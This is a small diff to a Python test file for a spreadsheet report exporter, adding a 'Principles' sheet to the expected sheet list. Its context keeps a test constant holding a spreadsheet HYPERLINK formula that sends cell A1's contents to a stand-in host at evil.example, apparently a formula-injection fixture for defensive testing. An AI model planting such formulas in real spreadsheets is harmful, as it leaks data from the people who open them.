@@ -16,7 +16,7 @@ from assessments.report.gap_report import build
 from assessments.report.workbook import report_xlsx
 from tests.report import sample_reports
 
-SHEETS = ["Summary", "Answers", "Gaps and actions", "Evidence", "Method"]
+SHEETS = ["Summary", "Answers", "Gaps and actions", "Principles", "Evidence", "Method"]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -43,7 +43,7 @@ def hostile_book():
     return load_workbook(BytesIO(report_xlsx(report, sample_reports.rendering(report)).data))
 
 
-def test_five_sheets_and_the_first_says_that_it_is_no_form(book) -> None:
+def test_six_sheets_and_the_first_says_that_it_is_no_form(book) -> None:
     assert book.sheetnames == SHEETS
     said = [str(cell.value) for cell in book["Summary"]["A"] if cell.value]
     assert any(text.startswith("Not for filling in") for text in said)
